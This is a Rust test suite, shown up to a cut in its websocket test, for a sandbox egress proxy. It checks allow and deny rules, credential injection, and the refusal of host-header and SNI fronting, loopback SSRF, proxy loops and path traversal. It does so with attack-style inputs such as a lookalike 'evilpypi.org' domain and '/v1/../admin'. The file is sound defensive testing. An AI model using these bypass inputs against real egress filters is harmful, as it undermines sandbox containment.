//! End-to-end tests of the engine on loopback: real upstream servers (HTTP, and HTTPS with a test
//! CA given through `upstream.ca`) reached under real-looking names through `upstream.resolve`,
//! driven through a sandbox listener (and the host listener) with raw hyper clients and a
//! tokio-rustls client that trusts the sandbox CA. Every denial asserts zero upstream hits.

use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::Arc;
use std::task::{Context, Poll};
use std::time::Duration;

use base64::Engine as _;
use bytes::Bytes;
use http::{HeaderMap, Request, Response, StatusCode, Version};
use http_body::Frame;
use http_body_util::{BodyExt, Empty, Full};
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper_util::rt::{TokioExecutor, TokioIo};
use parking_lot::Mutex;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::{mpsc, Notify};

use crate::config::Config;
use crate::events::{kind, Event, EventBus, Since, Subscription};
use crate::policy::{Compiled, PolicyCell};
use crate::tls::CertificateAuthority;

use super::deny::{BoxError, ProxyBody, DENIED_HEADER};
use super::Engine;

// ---------------------------------------------------------------------------------------------
// Upstream servers

/// One request an upstream saw.
#[derive(Debug, Clone)]
struct Hit {
    host: String,
    method: String,
    path: String,
    headers: HeaderMap,
    version: Version,
}

#[derive(Default)]
struct Hits(Mutex<Vec<Hit>>);

impl Hits {
    fn count(&self) -> usize {
        self.0.lock().len()
    }
    fn for_host(&self, host: &str) -> usize {
        self.0.lock().iter().filter(|h| h.host == host).count()
    }
    fn last(&self) -> Hit {
        self.0.lock().last().cloned().expect("no upstream hit")
    }
}

/// A body fed from a channel (for streaming responses).
struct ChanBody(mpsc::Receiver<Bytes>);

impl http_body::Body for ChanBody {
    type Data = Bytes;
    type Error = BoxError;
    fn poll_frame(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, BoxError>>> {
        self.0.poll_recv(cx).map(|o| o.map(|b| Ok(Frame::data(b))))
    }
}

fn full(text: impl Into<Bytes>) -> ProxyBody {
    Full::new(text.into())
        .map_err(|never| match never {})
        .boxed_unsync()
}

/// The upstream handler: records the hit, then
/// - `/stream`: sends `first\n`, waits for `release`, sends `second\n`;
/// - `/ws` with `Upgrade`: answers 101 and echoes bytes;
/// - anything else: `200 ok <path>`.
async fn upstream_service(
    req: Request<Incoming>,
    hits: Arc<Hits>,
    release: Arc<Notify>,
) -> Response<ProxyBody> {
    let host = req
        .uri()
        .host()
        .map(str::to_string)
        .or_else(|| {
            req.headers()
                .get("host")
                .and_then(|h| h.to_str().ok())
                .map(|h| h.split(':').next().unwrap_or(h).to_string())
        })
        .unwrap_or_default();
    hits.0.lock().push(Hit {
        host,
        method: req.method().to_string(),
        path: req.uri().path().to_string(),
        headers: req.headers().clone(),
        version: req.version(),
    });
    match req.uri().path() {
        "/stream" => {
            let (tx, rx) = mpsc::channel(4);
            tokio::spawn(async move {
                let _ = tx.send(Bytes::from_static(b"first\n")).await;
                release.notified().await;
                let _ = tx.send(Bytes::from_static(b"second\n")).await;
            });
            Response::new(ChanBody(rx).boxed_unsync())
        }
        p if (p == "/ws" || p.starts_with("/up/")) && req.headers().contains_key("upgrade") => {
            let protocol = req.headers()["upgrade"].clone();
            let mut req = req;
            let on = hyper::upgrade::on(&mut req);
            tokio::spawn(async move {
                if let Ok(up) = on.await {
                    let mut io = TokioIo::new(up);
                    let mut buf = [0u8; 1024];
                    while let Ok(n) = io.read(&mut buf).await {
                        if n == 0 || io.write_all(&buf[..n]).await.is_err() {
                            break;
                        }
                    }
                }
            });
            Response::builder()
                .status(StatusCode::SWITCHING_PROTOCOLS)
                .header("connection", "upgrade")
                .header("upgrade", protocol)
                .body(full(""))
                .unwrap()
        }
        path => Response::new(full(format!("ok {path}"))),
    }
}

struct Upstream {
    addr: SocketAddr,
    hits: Arc<Hits>,
    release: Arc<Notify>,
}

/// An HTTP (tls: None) or HTTPS upstream on 127.0.0.1:0.
async fn start_upstream(tls: Option<Arc<rustls::ServerConfig>>) -> Upstream {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let hits = Arc::new(Hits::default());
    let release = Arc::new(Notify::new());
    let (h, r) = (hits.clone(), release.clone());
    tokio::spawn(async move {
        loop {
            let Ok((stream, _)) = listener.accept().await else {
                break;
            };
            let (h, r, tls) = (h.clone(), r.clone(), tls.clone());
            tokio::spawn(async move {
                let svc = service_fn(move |req| {
                    let (h, r) = (h.clone(), r.clone());
                    async move { Ok::<_, std::convert::Infallible>(upstream_service(req, h, r).await) }
                });
                let builder = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new());
                match tls {
                    Some(cfg) => {
                        let Ok(tls) = tokio_rustls::TlsAcceptor::from(cfg).accept(stream).await
                        else {
                            return;
                        };
                        let _ = builder
                            .serve_connection_with_upgrades(TokioIo::new(tls), svc)
                            .await;
                    }
                    None => {
                        let _ = builder
                            .serve_connection_with_upgrades(TokioIo::new(stream), svc)
                            .await;
                    }
                }
            });
        }
    });
    Upstream {
        addr,
        hits,
        release,
    }
}

/// A TCP echo server (for raw tunnels).
async fn start_echo() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            tokio::spawn(async move {
                let (mut r, mut w) = s.split();
                let _ = tokio::io::copy(&mut r, &mut w).await;
            });
        }
    });
    addr
}

/// The upstreams' test CA (PEM) and the TLS config of the HTTPS upstream.
fn upstream_tls() -> (String, Arc<rustls::ServerConfig>) {
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "hive test upstream CA");
    ca_params.key_usages = vec![
        rcgen::KeyUsagePurpose::KeyCertSign,
        rcgen::KeyUsagePurpose::CrlSign,
        rcgen::KeyUsagePurpose::DigitalSignature,
    ];
    let ca_cert = ca_params.self_signed(&ca_key).unwrap();
    let issuer = rcgen::Issuer::new(ca_params, ca_key);
    let names: Vec<String> = [
        "api.github.com",
        "pypi.org",
        "files.pypi.org",
        "evilpypi.org",
        "127.0.0.1",
    ]
    .map(String::from)
    .to_vec();
    let leaf_key = rcgen::KeyPair::generate().unwrap();
    let leaf = rcgen::CertificateParams::new(names)
        .unwrap()
        .signed_by(&leaf_key, &issuer)
        .unwrap();
    let key = rustls::pki_types::PrivateKeyDer::try_from(leaf_key.serialize_der()).unwrap();
    let mut cfg = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(vec![leaf.der().clone(), ca_cert.der().clone()], key)
    .unwrap();
    cfg.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
    (ca_cert.pem(), Arc::new(cfg))
}

// ---------------------------------------------------------------------------------------------
// The engine under test

struct Harness {
    engine: Arc<Engine>,
    cell: Arc<PolicyCell>,
    proxy: SocketAddr,
    ca_pem: String,
    http: Upstream,
    https: Upstream,
    events: Subscription,
    upstream: Value,
    _dir: tempfile::TempDir,
}

const NAMES: [&str; 4] = [
    "api.github.com",
    "pypi.org",
    "files.pypi.org",
    "evilpypi.org",
];

/// A resolver that answers `127.0.0.1` for every name under `attacker.example` and counts every
/// lookup (whatever the name).
#[derive(Default)]
struct CountingResolver {
    lookups: Mutex<Vec<String>>,
}

impl super::upstream::Resolve for CountingResolver {
    fn lookup(
        &self,
        host: &str,
        port: u16,
    ) -> Pin<Box<dyn std::future::Future<Output = std::io::Result<Vec<SocketAddr>>> + Send>> {
        self.lookups.lock().push(host.to_string());
        let found = if host.ends_with(".attacker.example") {
            Ok(vec![SocketAddr::from(([127, 0, 0, 1], port))])
        } else {
            Err(std::io::ErrorKind::NotFound.into())
        };
        Box::pin(async move { found })
    }
}

impl Harness {
    /// An engine with `egress` rules; every test name resolves to the two upstreams.
    async fn new(egress: Value) -> Harness {
        Harness::with_resolver(egress, Arc::new(super::upstream::SystemResolver)).await
    }

    /// [`Harness::new`] looking names up through `resolver`.
    async fn with_resolver(egress: Value, resolver: Arc<dyn super::upstream::Resolve>) -> Harness {
        Harness::with_options(egress, resolver, super::Limits::default()).await
    }

    /// [`Harness::with_resolver`] with other connection limits.
    async fn with_options(
        egress: Value,
        resolver: Arc<dyn super::upstream::Resolve>,
        limits: super::Limits,
    ) -> Harness {
        let (upstream_ca, tls) = upstream_tls();
        let http = start_upstream(None).await;
        let https = start_upstream(Some(tls)).await;
        let mut resolve = serde_json::Map::new();
        for name in NAMES {
            resolve.insert(format!("{name}:80"), http.addr.to_string().into());
            resolve.insert(format!("{name}:443"), https.addr.to_string().into());
        }
        let upstream = json!({ "resolve": resolve, "ca": [upstream_ca] });
        let dir = tempfile::tempdir().unwrap();
        let events = EventBus::open("proxy-test", dir.path()).unwrap();
        let subscription = events.subscribe(Since::Now, 10_000).unwrap();
        let ca = Arc::new(CertificateAuthority::load_or_create(dir.path(), "proxy-test").unwrap());
        let ca_pem = ca.cert_pem().to_string();
        let config = Config::from_json(&json!({ "egress": egress, "upstream": upstream })).unwrap();
        let cell = Arc::new(PolicyCell::from_pointee(Compiled::new(config)));
        let engine = Engine::with_options(
            "proxy-test".into(),
            cell.clone(),
            events,
            ca,
            resolver,
            limits,
        );
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let proxy = listener.local_addr().unwrap();
        engine.serve_sandbox_listener(listener).unwrap();
        Harness {
            engine,
            cell,
            proxy,
            ca_pem,
            http,
            https,
            events: subscription,
            upstream,
            _dir: dir,
        }
    }

    /// `applyConfig` with new egress rules (same upstream section).
    fn apply(&self, egress: Value) {
        let config =
            Config::from_json(&json!({ "egress": egress, "upstream": self.upstream })).unwrap();
        self.cell.store(Arc::new(Compiled::new(config)));
    }

    fn hits(&self) -> usize {
        self.http.hits.count() + self.https.hits.count()
    }

    /// Every event emitted so far (waits briefly for stragglers).
    async fn drain_events(&self) -> Vec<Event> {
        let mut out = Vec::new();
        while let Ok(Some(e)) =
            tokio::time::timeout(Duration::from_millis(200), self.events.next()).await
        {
            out.push(e);
        }
        out
    }

    /// A plain-HTTP client connection to the proxy (absolute-form requests).
    async fn http_client(&self) -> hyper::client::conn::http1::SendRequest<ProxyBody> {
        let stream = TcpStream::connect(self.proxy).await.unwrap();
        let (send, conn) = hyper::client::conn::http1::handshake(TokioIo::new(stream))
            .await
            .unwrap();
        tokio::spawn(conn.with_upgrades());
        send
    }

    /// `GET http://host/path` through the proxy on a fresh connection.
    async fn get_http(&self, url: &str) -> (StatusCode, HeaderMap, String) {
        let mut c = self.http_client().await;
        send(&mut c, Request::get(url).body(empty()).unwrap()).await
    }

    /// CONNECT host:port, then TLS (trusting the sandbox CA, ALPN `alpn`) with `sni`.
    async fn tunnel(
        &self,
        target: &str,
        sni: &str,
        alpn: &[&[u8]],
    ) -> Result<tokio_rustls::client::TlsStream<TcpStream>, StatusCode> {
        let mut stream = TcpStream::connect(self.proxy).await.unwrap();
        let status = connect_head(&mut stream, target, None).await;
        if status != StatusCode::OK {
            return Err(status);
        }
        let mut roots = rustls::RootCertStore::empty();
        for cert in rustls_pemfile::certs(&mut self.ca_pem.as_bytes()) {
            roots.add(cert.unwrap()).unwrap();
        }
        let mut cfg = rustls::ClientConfig::builder_with_provider(Arc::new(
            rustls::crypto::ring::default_provider(),
        ))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
        cfg.alpn_protocols = alpn.iter().map(|p| p.to_vec()).collect();
        let name = rustls::pki_types::ServerName::try_from(sni.to_string()).unwrap();
        Ok(tokio_rustls::TlsConnector::from(Arc::new(cfg))
            .connect(name, stream)
            .await
            .unwrap())
    }

    /// An HTTP/1.1 client over an intercepted tunnel to `host:443`.
    async fn https_client(&self, host: &str) -> hyper::client::conn::http1::SendRequest<ProxyBody> {
        let tls = self
            .tunnel(&format!("{host}:443"), host, &[b"http/1.1"])
            .await
            .expect("CONNECT allowed");
        let (send, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tls))
            .await
            .unwrap();
        tokio::spawn(conn.with_upgrades());
        send
    }

    /// `GET https://host/path` through an intercepted tunnel on a fresh connection.
    async fn get_https(&self, host: &str, path: &str) -> (StatusCode, HeaderMap, String) {
        match self
            .tunnel(&format!("{host}:443"), host, &[b"http/1.1"])
            .await
        {
            Err(status) => (status, HeaderMap::new(), String::new()),
            Ok(tls) => {
                let (mut c, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tls))
                    .await
                    .unwrap();
                tokio::spawn(conn);
                send(&mut c, get(host, path)).await
            }
        }
    }
}

fn empty() -> ProxyBody {
    Empty::new().map_err(|never| match never {}).boxed_unsync()
}

/// An origin-form request with a Host header.
fn get(host: &str, path: &str) -> Request<ProxyBody> {
    Request::get(path)
        .header("host", host)
        .body(empty())
        .unwrap()
}

async fn send(
    c: &mut hyper::client::conn::http1::SendRequest<ProxyBody>,
    req: Request<ProxyBody>,
) -> (StatusCode, HeaderMap, String) {
    c.ready().await.expect("connection ready");
    let res = c.send_request(req).await.expect("response");
    let (parts, body) = res.into_parts();
    let body = body
        .collect()
        .await
        .map(|b| b.to_bytes())
        .unwrap_or_default();
    (
        parts.status,
        parts.headers,
        String::from_utf8_lossy(&body).into_owned(),
    )
}

/// Writes a CONNECT head and reads the status of the answer.
async fn connect_head(stream: &mut TcpStream, target: &str, auth: Option<&str>) -> StatusCode {
    let auth = auth
        .map(|a| format!("Proxy-Authorization: {a}\r\n"))
        .unwrap_or_default();
    stream
        .write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{auth}\r\n").as_bytes())
        .await
        .unwrap();
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        if stream.read(&mut byte).await.unwrap_or(0) == 0 {
            break;
        }
        head.push(byte[0]);
    }
    let text = String::from_utf8_lossy(&head);
    let code = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    StatusCode::from_u16(code).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR)
}

fn egress_requests(events: &[Event]) -> Vec<&Event> {
    events
        .iter()
        .filter(|e| e.kind == kind::EGRESS_REQUEST)
        .collect()
}

fn field<'a>(e: &'a Event, name: &str) -> &'a Value {
    e.fields.get(name).unwrap_or(&Value::Null)
}

// ---------------------------------------------------------------------------------------------
// Decisions

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn default_deny_with_no_rules() {
    let h = Harness::new(json!([])).await;
    let (status, headers, body) = h.get_http("http://pypi.org/simple/").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(headers[DENIED_HEADER], "no-rule");
    assert!(
        body.contains("pypi.org/simple/") && body.contains("GET"),
        "{body}"
    );
    // A denied CONNECT is accepted and the request inside answered with its method and path.
    let (status, headers, body) = h.get_https("api.github.com", "/zen").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(headers[DENIED_HEADER], "no-rule");
    assert_eq!(
        body,
        "hive: GET api.github.com/zen denied by this sandbox's egress policy (no rule matches host api.github.com)\n"
    );
    assert_eq!(h.hits(), 0);
    let events = h.drain_events().await;
    let reqs = egress_requests(&events);
    assert_eq!(reqs.len(), 2);
    assert_eq!(field(reqs[0], "access"), "denied");
    assert_eq!(field(reqs[0], "reason"), "no-rule");
    assert_eq!(field(reqs[0], "rule"), &Value::Null);
    assert_eq!(field(reqs[0], "via"), "proxy");
    assert_eq!(field(reqs[0], "scheme"), "http");
    assert_eq!(field(reqs[1], "method"), "GET");
    assert_eq!(field(reqs[1], "path"), "/zen");
    assert_eq!(field(reqs[1], "scheme"), "https");
    assert_eq!(field(reqs[1], "access"), "denied");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allowed_http_and_https_reach_the_upstream_with_events() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let (status, _, body) = h.get_http("http://pypi.org/simple/?token=abc").await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, "ok /simple/"));
    assert_eq!(h.http.hits.last().host, "pypi.org");
    let (status, _, body) = h.get_https("pypi.org", "/simple/").await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, "ok /simple/"));
    assert_eq!(h.https.hits.for_host("pypi.org"), 1);
    // Proxy credentials never reach the upstream.
    assert!(!h
        .https
        .hits
        .last()
        .headers
        .contains_key("proxy-authorization"));

    let events = h.drain_events().await;
    let reqs = egress_requests(&events);
    assert_eq!(reqs.len(), 2);
    assert_eq!(
        field(reqs[0], "path"),
        "/simple/",
        "query string is not recorded"
    );
    assert_eq!(field(reqs[0], "access"), "allowed");
    assert_eq!(field(reqs[0], "rule"), 0);
    assert_eq!(field(reqs[0], "port"), 80);
    assert_eq!(field(reqs[1], "scheme"), "https");
    assert_eq!(field(reqs[1], "port"), 443);
    let responses: Vec<_> = events
        .iter()
        .filter(|e| e.kind == kind::EGRESS_RESPONSE)
        .collect();
    assert_eq!(responses.len(), 2);
    assert_eq!(
        field(responses[0], "requestId"),
        &Value::from(reqs[0].id.clone())
    );
    assert_eq!(field(responses[0], "status"), 200);
    assert_eq!(field(responses[0], "bytesIn"), "ok /simple/".len());
    assert!(field(responses[0], "durationMs").is_number());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn star_allows_every_host() {
    let h = Harness::new(json!([{ "access": "allow", "host": "*" }])).await;
    for name in NAMES {
        assert_eq!(h.get_https(name, "/zen").await.0, StatusCode::OK, "{name}");
    }
    assert_eq!(h.https.hits.count(), NAMES.len());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wildcard_covers_apex_and_subdomains_but_not_lookalikes() {
    let h = Harness::new(json!([{ "access": "allow", "host": "*.pypi.org" }])).await;
    assert_eq!(h.get_https("pypi.org", "/simple/").await.0, StatusCode::OK);
    assert_eq!(
        h.get_https("files.pypi.org", "/packages/x.whl").await.0,
        StatusCode::OK
    );
    assert_eq!(
        h.get_https("evilpypi.org", "/simple/").await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        h.get_http("http://evilpypi.org/").await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        h.https.hits.for_host("evilpypi.org") + h.http.hits.for_host("evilpypi.org"),
        0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ports_restrict_the_allowed_ports() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org", "ports": [443] }])).await;
    assert_eq!(h.get_https("pypi.org", "/").await.0, StatusCode::OK);
    let (status, headers, _) = h.get_http("http://pypi.org/").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(headers[DENIED_HEADER], "port");
    assert_eq!(h.http.hits.count(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn methods_are_decided_inside_the_tunnel() {
    let h =
        Harness::new(json!([{ "access": "allow", "host": "api.github.com", "methods": ["GET"] }]))
            .await;
    let mut c = h.https_client("api.github.com").await;
    assert_eq!(
        send(&mut c, get("api.github.com", "/zen")).await.0,
        StatusCode::OK
    );
    let post = Request::post("/repos")
        .header("host", "api.github.com")
        .body(full("{}"))
        .unwrap();
    let (status, headers, body) = send(&mut c, post).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(headers[DENIED_HEADER], "method");
    assert!(body.contains("POST api.github.com/repos"), "{body}");
    assert_eq!(h.https.hits.count(), 1);
    let hit = h.https.hits.last();
    assert_eq!((hit.method.as_str(), hit.path.as_str()), ("GET", "/zen"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn paths_match_after_normalization() {
    let h =
        Harness::new(json!([{ "access": "allow", "host": "api.github.com", "paths": ["/v1/*"] }]))
            .await;
    let mut c = h.https_client("api.github.com").await;
    assert_eq!(
        send(&mut c, get("api.github.com", "/v1/models")).await.0,
        StatusCode::OK
    );
    assert_eq!(
        send(&mut c, get("api.github.com", "/v1/a/b")).await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        send(&mut c, get("api.github.com", "/v1/../admin")).await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(h.https.hits.count(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn first_match_wins_with_deny_before_allow() {
    let h = Harness::new(json!([
        { "access": "deny", "host": "api.github.com", "paths": ["/admin/**"] },
        { "access": "allow", "host": "*" },
    ]))
    .await;
    let mut c = h.https_client("api.github.com").await;
    let (status, headers, _) = send(&mut c, get("api.github.com", "/admin/users")).await;
    assert_eq!(
        (status, &headers[DENIED_HEADER]),
        (
            StatusCode::FORBIDDEN,
            &"rule".parse::<http::HeaderValue>().unwrap()
        )
    );
    assert_eq!(
        send(&mut c, get("api.github.com", "/zen")).await.0,
        StatusCode::OK
    );
    assert_eq!(h.https.hits.count(), 1);
    let events = h.drain_events().await;
    let reqs = egress_requests(&events);
    assert_eq!(
        (field(reqs[0], "rule"), field(reqs[0], "reason")),
        (&Value::from(0), &Value::from("rule"))
    );
    assert_eq!(field(reqs[1], "rule"), 1);
}

// ---------------------------------------------------------------------------------------------
// Credentials

const SECRET: &str = "sk-live-0123456789abcdef";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn injection_replaces_a_forged_header_and_never_leaks() {
    let h = Harness::new(json!([{
        "access": "allow", "host": "api.github.com",
        "override": { "headers": { "Authorization": format!("Bearer {SECRET}") } },
    }]))
    .await;
    let mut c = h.https_client("api.github.com").await;
    let req = Request::get("/user")
        .header("host", "api.github.com")
        .header("authorization", "Bearer forged")
        .header("authorization", "Bearer forged-2")
        .body(empty())
        .unwrap();
    let (status, headers, body) = send(&mut c, req).await;
    assert_eq!(status, StatusCode::OK);
    let seen: Vec<_> = h
        .https
        .hits
        .last()
        .headers
        .get_all("authorization")
        .iter()
        .cloned()
        .collect();
    assert_eq!(
        seen,
        vec![http::HeaderValue::from_str(&format!("Bearer {SECRET}")).unwrap()]
    );
    assert!(!body.contains(SECRET) && !format!("{headers:?}").contains(SECRET));
    let events = h.drain_events().await;
    let reqs = egress_requests(&events);
    assert_eq!(field(reqs[0], "injectedHeaders"), &json!(["authorization"]));
    for e in &events {
        assert!(
            !e.to_json().to_string().contains(SECRET),
            "secret in event {e:?}"
        );
    }
    assert!(!format!("{:?}", h.cell.load()).contains(SECRET));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credentials_are_not_sent_over_plain_http() {
    let h = Harness::new(json!([
        { "access": "allow", "host": "pypi.org", "override": { "headers": { "X-Token": SECRET } } },
        { "access": "allow", "host": "files.pypi.org",
          "override": { "headers": { "X-Token": SECRET }, "allowPlaintext": true } },
    ]))
    .await;
    let (status, headers, body) = h.get_http("http://pypi.org/simple/").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(headers[DENIED_HEADER], "plaintext-credentials");
    assert!(!body.contains(SECRET));
    assert_eq!(h.http.hits.count(), 0);
    // allowPlaintext opts in.
    assert_eq!(
        h.get_http("http://files.pypi.org/x").await.0,
        StatusCode::OK
    );
    assert_eq!(h.http.hits.last().headers["x-token"], SECRET);
}

// ---------------------------------------------------------------------------------------------
// Fronting, SSRF, loops

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn host_header_naming_another_host_is_refused() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }, { "access": "allow", "host": "evilpypi.org" }])).await;
    let mut c = h.https_client("pypi.org").await;
    let (status, headers, _) = send(&mut c, get("evilpypi.org", "/")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(headers[DENIED_HEADER], "host-mismatch");
    // Another port in Host is a mismatch too.
    let (status, _, _) = send(&mut c, get("pypi.org:8443", "/")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(h.https.hits.count(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sni_naming_another_host_is_refused() {
    let h = Harness::new(json!([{ "access": "allow", "host": "*" }])).await;
    let tls = h
        .tunnel("pypi.org:443", "evilpypi.org", &[b"http/1.1"])
        .await
        .expect("CONNECT allowed");
    let (mut c, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tls))
        .await
        .unwrap();
    tokio::spawn(conn);
    for host in ["pypi.org", "evilpypi.org"] {
        let (status, headers, _) = send(&mut c, get(host, "/")).await;
        assert_eq!(
            (status, headers[DENIED_HEADER].to_str().unwrap()),
            (StatusCode::FORBIDDEN, "host-mismatch")
        );
    }
    assert_eq!(h.https.hits.count(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn private_addresses_are_refused_unless_named() {
    let echo = start_echo().await;
    let h = Harness::new(json!([{ "access": "allow", "host": "*" }])).await;
    // An IP literal on loopback, and a name the system resolves to loopback.
    let (status, headers, _) = h.get_http(&format!("http://{}/", h.http.addr)).await;
    assert_eq!(
        (status, headers[DENIED_HEADER].to_str().unwrap()),
        (StatusCode::FORBIDDEN, "private-address")
    );
    let (status, headers, _) = h
        .get_http(&format!("http://localhost:{}/", h.http.addr.port()))
        .await;
    assert_eq!(
        (status, headers[DENIED_HEADER].to_str().unwrap()),
        (StatusCode::FORBIDDEN, "private-address")
    );
    let (code, text) = connect_then(
        h.proxy,
        &echo.to_string(),
        "GET /x HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    )
    .await;
    assert_eq!(code, 403, "{text}");
    assert!(text.contains("x-hive-denied: private-address"), "{text}");
    assert_eq!(h.http.hits.count(), 0);
    // A rule naming the address lifts the refusal.
    h.apply(json!([{ "access": "allow", "host": "127.0.0.1" }]));
    assert_eq!(
        h.get_http(&format!("http://{}/", h.http.addr)).await.0,
        StatusCode::OK
    );
    assert_eq!(h.http.hits.count(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_to_the_proxy_itself_are_refused() {
    let h = Harness::new(json!([{ "access": "allow", "host": "127.0.0.0/8" }])).await;
    let (status, headers, _) = h.get_http(&format!("http://{}/", h.proxy)).await;
    assert_eq!(
        (status, headers[DENIED_HEADER].to_str().unwrap()),
        (StatusCode::FORBIDDEN, "proxy-loop")
    );
}

// ---------------------------------------------------------------------------------------------
// applyConfig

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn apply_config_takes_effect_on_an_open_keep_alive_connection() {
    let h = Harness::new(json!([{ "access": "allow", "host": "api.github.com" }])).await;
    let mut tls = h.https_client("api.github.com").await;
    let mut plain = h.http_client().await;
    assert_eq!(
        send(&mut tls, get("api.github.com", "/zen")).await.0,
        StatusCode::OK
    );
    assert_eq!(
        send(
            &mut plain,
            Request::get("http://api.github.com/zen")
                .body(empty())
                .unwrap()
        )
        .await
        .0,
        StatusCode::OK
    );
    h.apply(json!([]));
    assert_eq!(
        send(&mut tls, get("api.github.com", "/zen")).await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        send(
            &mut plain,
            Request::get("http://api.github.com/zen")
                .body(empty())
                .unwrap()
        )
        .await
        .0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(h.hits(), 2);
    h.apply(json!([{ "access": "allow", "host": "*" }]));
    assert_eq!(
        send(&mut tls, get("api.github.com", "/zen")).await.0,
        StatusCode::OK
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_streaming_response_survives_apply_config() {
    let h = Harness::new(json!([{ "access": "allow", "host": "api.github.com" }])).await;
    let mut c = h.https_client("api.github.com").await;
    let res = c
        .send_request(get("api.github.com", "/stream"))
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let mut body = res.into_body();
    let first = body.frame().await.unwrap().unwrap().into_data().unwrap();
    assert_eq!(&first[..], b"first\n");
    h.apply(json!([]));
    h.https.release.notify_one();
    let rest = body.collect().await.unwrap().to_bytes();
    assert_eq!(&rest[..], b"second\n");
}

// ---------------------------------------------------------------------------------------------
// Protocols

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http2_on_both_legs() {
    let h = Harness::new(json!([{ "access": "allow", "host": "api.github.com" }])).await;
    // A client that offers both gets HTTP/1.1 (the lean path's), one that offers h2 only, h2.
    let tls = h
        .tunnel(
            "api.github.com:443",
            "api.github.com",
            &[b"h2", b"http/1.1"],
        )
        .await
        .unwrap();
    assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"http/1.1"[..]));
    let tls = h
        .tunnel("api.github.com:443", "api.github.com", &[b"h2"])
        .await
        .unwrap();
    assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
    let (mut c, conn) =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(tls))
            .await
            .unwrap();
    tokio::spawn(conn);
    let req = Request::get("https://api.github.com/zen")
        .body(empty())
        .unwrap();
    let res = c.send_request(req).await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(
        h.https.hits.last().version,
        Version::HTTP_2,
        "upstream leg negotiated h2"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn websocket_upgrade_through_the_intercepted_path() {
    let h = Harness::new(json!([{ "access": "allow", "host": "api.github.com" }])).await;
    let mut c = h.https_client("api.github.com").await;
    let req = Request::get("/ws")
        .header("host", "api.github.com")
        .header("connection", "Upgrade")
        .header("upgrade", "websocket")
        .header("sec-websocket-version", "13")
